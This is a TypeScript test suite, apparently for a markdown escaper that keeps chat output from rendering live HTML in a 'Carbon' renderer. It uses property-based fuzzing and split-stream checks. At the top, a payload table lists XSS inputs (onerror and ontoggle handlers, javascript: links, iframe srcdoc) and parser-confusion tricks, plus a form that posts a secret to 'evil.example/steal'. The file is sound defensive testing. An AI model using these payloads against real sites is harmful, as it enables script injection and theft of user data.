import fc from "fast-check";
import { escapeMarkdownHtml, MarkdownHtmlEscaper } from "../../src/internal/markdownHtml";
import { carbonMarkdown, hasAutolinkOrImage, liveHtml } from "../support/carbonMarkdown";

/** The payloads of issue 19: each runs script, navigates or fetches when Carbon renders it raw. */
export const PAYLOADS = {
  "img onerror": `<img src=x onerror="alert(1)">`,
  "iframe srcdoc": `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  "details ontoggle": `<details open ontoggle=alert(1)><summary>x</summary></details>`,
  "object data:": `<object data="data:text/html,<script>alert(1)</script>"></object>`,
  "a href javascript:": `<a href="javascript:alert(1)">click me</a>`,
  "svg animate onbegin": `<svg><animate onbegin=alert(1) attributeName=x dur=1s /></svg>`,
  "form to another origin": `<form action="https://evil.example/steal"><input name=q value=secret><button>Send</button></form>`,
  "remote img": `<img src="https://evil.example/pixel.png">`,
  "markdown image": `![pixel](https://evil.example/pixel.png)`,
  "html block": `<div>\n<img src=x onerror=alert(1)>\n</div>`,
  "comment and script": `<!-- x --><script>alert(1)</script>`,
  "autolink": `<javascript:alert(1)>`,
  "backslash before a tag": `\\\\<img src=x onerror=alert(1)>`,
  "code span closed by a backslash": "`a\\`<img src=x onerror=alert(1)>",
  "link destination eats a backtick": "[a](`b)<img src=x onerror=alert(1)>`",
  "linkify eats a backtick": "https://example.test/`<img src=x onerror=alert(1)>`",
  "highlight splits a code span": "==a `x== <img src=x onerror=alert(1)>`",
  "table cell splits a code span": "| a | b |\n|---|---|\n| `a|b` `<img src=x onerror=alert(1)>` c` | d |",
  "code span over two lines": "`a\n`<img src=x onerror=alert(1)>`",
  "fence in a list item, left by the next line": "- a\n  ```\n<img src=x onerror=alert(1)>",
  "fence closed by an indented fence we do not place": " ```\nfoo\n```\n<img src=x onerror=alert(1)>\n```",
  "link attributes": '[open me](https://example.test/){{target="_top"}}',
  "fence closed by a CR": "```\n<b>\n```\r<img src=x onerror=alert(1)>",
};

const render = carbonMarkdown();
/** Rendered HTML without the invisible word joiners the escaper adds: in the text, and percent-encoded in a link's address. */
const withoutJoiners = (html: string) => html.replace(/\u2060|%E2%81%A0/g, "");
const renderWithoutHtml = carbonMarkdown(false);

describe("escapeMarkdownHtml", () => {
  it.each(Object.entries(PAYLOADS))("turns %s into text", (_name, payload) => {
    expect(escapeMarkdownHtml(payload)).not.toBe(payload);
    expect(liveHtml(escapeMarkdownHtml(payload))).toEqual([]);
  });

  it("leaves text without HTML as it was: ampersands, entities, comparisons written with a space", () => {
    for (const text of ["AT&T & Johnson &amp; Johnson, &copy; 2025, &lt;b&gt;", "a > b, 1 < 2? No: 2 > 1", "**bold** _it_ ~~gone~~ ==marked== [link](https://example.test)"]) {
      expect(liveHtml(escapeMarkdownHtml(text))).toEqual([]);
      expect(render.render(escapeMarkdownHtml(text))).toBe(renderWithoutHtml.render(text));
    }
    expect(escapeMarkdownHtml("AT&T &amp; &copy;")).toBe("AT&T &amp; &copy;");
  });

  it("leaves fenced code blocks and code spans exactly as they were", () => {
    const code = ["```html\n<div onclick=\"go()\">a < b && c</div>\n![x](y.png)\n```", "~~~~\n<script>\n~~~~", "Use `<div>` or ``a ` <b>`` here.", "```\n<b>\n```\n\nthen `<i>` too"];
    for (const text of code) expect(escapeMarkdownHtml(text)).toBe(text);
  });

  it("shows `<` and images as text around code", () => {
    expect(escapeMarkdownHtml("<b>bold?</b> `<b>` ![cat](https://example.test/cat.png)")).toBe("&lt;b>bold?&lt;/b> `<b>` \\![cat](https://example.test/cat.png)");
    expect(render.render(escapeMarkdownHtml("![cat](https://example.test/cat.png)"))).toBe('<p>!<a href="https://example.test/cat.png">cat</a></p>\n');
  });

  it("makes Carbon's {{attribute}} syntax (a link's target, a class, an id) inert outside code, invisibly, and keeps it in code", () => {
    const link = '[open me](https://example.test/){{target="_top"}}';
    expect(escapeMarkdownHtml(link)).toBe('[open me](https://example.test/){\u2060{target="_top"}}');
    expect(escapeMarkdownHtml("`{{x}}`\n```\n{{y}}\n```")).toBe("`{{x}}`\n```\n{{y}}\n```");
    const escaper = new MarkdownHtmlEscaper();
    expect(escaper.push("a {") + escaper.push("{b}}") + escaper.end()).toBe("a {\u2060{b}}");
  });

  it("gives the same output however the text is split into deltas, and every prefix is safe", () => {
    const message = Object.values(PAYLOADS).join("\n\nand `<code>` then\n```js\nif (a <b) x();\n```\n");
    const whole = escapeMarkdownHtml(message);
    for (const payload of Object.values(PAYLOADS)) {
      const expected = escapeMarkdownHtml(payload);
      for (let at = 0; at <= payload.length; at++) {
        const escaper = new MarkdownHtmlEscaper();
        const first = escaper.push(payload.slice(0, at));
        expect(liveHtml(first)).toEqual([]);
        expect(first + escaper.push(payload.slice(at)) + escaper.end()).toBe(expected);
      }
    }
    const oneByOne = new MarkdownHtmlEscaper();
    let streamed = "";
    for (const char of message) streamed += oneByOne.push(char);
    expect(streamed + oneByOne.end()).toBe(whole);
  });

  /** Markdown built from the pieces that matter to markdown-it's reading of HTML and code. */
  const markdownish = fc
    .array(
      fc.constantFrom(
        "<", ">", "`", "``", "```", "~~~", "\n", "\n", "\r\n", "\r", " ", "    ", "\t", "a", "div", "img src=x onerror=alert(1)", "/", "!", "?", "[", "]", "(", ")", "](", "]:", ":", "http://x.test/",
        "=", "==", "|", "\\", "&", "lt;", "-", "> ", "1. ", "* ", "#", "*", "_", "@", "x@y.test",
      ),
      { maxLength: 40 },
    )
    .map((pieces) => pieces.join(""));
  const splits = fc.array(fc.nat(), { maxLength: 6 });

  it("never leaves live HTML or an image, in any prefix of any split (fast-check against markdown-it)", () => {
    fc.assert(
      fc.property(markdownish, splits, (text, cuts) => {
        const points = [...new Set(cuts.map((cut) => cut % (text.length + 1)))].sort((a, b) => a - b);
        const escaper = new MarkdownHtmlEscaper();
        let out = "";
        let from = 0;
        for (const point of [...points, text.length]) {
          out += escaper.push(text.slice(from, point));
          from = point;
          expect(liveHtml(out)).toEqual([]);
        }
        out += escaper.end();
        expect(liveHtml(out)).toEqual([]);
        expect(out).toBe(escapeMarkdownHtml(text));
      }),
      { numRuns: 800 },
    );
  });

  it.each([
    ["a code span an unclosed backtick opens on the line before (CRLF)", "``\r\n<``"],
    ["the same with LF", "``\n<``"],
    ["an open backtick before `<` on the same line, closed on the next", "`<i\nfoo`"],
  ])("shows `<` as it was where a code span may start on an earlier line: %s (found by the property)", (_case, text) => {
    expect(withoutJoiners(render.render(escapeMarkdownHtml(text)))).toBe(renderWithoutHtml.render(text));
  });

  it.each([
    ["a link's destination", "[results](https://example.test/search?q=a<5)", "https://example.test/search?q=a%3C%E2%81%A05"],
    ["a link's destination after a colon (found by the property)", "[](:<)", ":%3C%E2%81%A0"],
    ["brackets in a bare URL, which linkify keeps in the address", "http://x.test/(<)", "http://x.test/(%3C%E2%81%A0)"],
    ["a bare URL", "http://x.test/![a]", "http://x.test/!%E2%81%A0%5Ba%5D"],
  ])("keeps `<`, `![` and `{{` inert inside a link's address too, where the invisible mark stays in the address: %s", (_case, text, href) => {
    const html = render.render(escapeMarkdownHtml(text));
    expect(html).toContain(`href="${href}"`);
    expect(liveHtml(escapeMarkdownHtml(text))).toEqual([]);
    expect(withoutJoiners(html)).toBe(renderWithoutHtml.render(text));
  });

  it("displays what Carbon would show with HTML turned off, but for invisible word joiners (fast-check against markdown-it)", () => {
    fc.assert(
      fc.property(markdownish, (text) => {
        fc.pre(!hasAutolinkOrImage(text, renderWithoutHtml));
        // Known: a word joiner after `<` is not punctuation, so `<*x*` where it gets one may lose its emphasis.
        fc.pre(!/<[*_~]/.test(text));
        // Known: linkify links a protocol-relative address (`//host`) right after a `<`, or with one inside it, only when the `<` is literal.
        fc.pre(!/<\/\/|\/\/[^\s<]*</.test(text));
        expect(withoutJoiners(render.render(escapeMarkdownHtml(text)))).toBe(renderWithoutHtml.render(text));
      }),
      { numRuns: 800 },
    );
  });

  it("keeps text safe that Carbon edits before rendering (conversational_search's ==highlights== for citations), when told not to trust its structure", () => {
    fc.assert(
      fc.property(markdownish, fc.array(fc.nat(), { maxLength: 4 }), (text, marks) => {
        let highlighted = escapeMarkdownHtml(text, false);
        for (const mark of marks) {
          const at = mark % (highlighted.length + 1);
          highlighted = `${highlighted.slice(0, at)}==${highlighted.slice(at)}`;
        }
        expect(liveHtml(highlighted)).toEqual([]);
      }),
      { numRuns: 500 },
    );
  });
});
